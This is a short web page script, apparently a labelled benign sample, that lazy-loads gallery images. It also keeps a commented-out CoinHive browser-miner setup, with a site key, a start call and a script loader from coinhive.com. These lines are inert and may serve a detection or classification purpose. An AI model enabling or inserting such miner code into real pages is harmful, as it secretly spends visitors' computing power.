// Benign: a page script whose miner call was left commented out after the site stopped mining.
document.addEventListener("DOMContentLoaded", function () {
  initGallery();
  // var miner = new CoinHive.Anonymous('SK8xq1Jm3pL0aZtYv9cWnR2bD4eF6gHk', {throttle: 0.3});
  // miner.start(CoinHive.FORCE_EXCLUSIVE_TAB);
  /* var s = document.createElement('script'); s.src = 'https://coinhive.com/lib/coinhive.min.js';
     document.head.appendChild(s); */
});
function initGallery() {
  var items = document.querySelectorAll(".gallery img");
  for (var i = 0; i < items.length; i++) items[i].loading = "lazy";
}
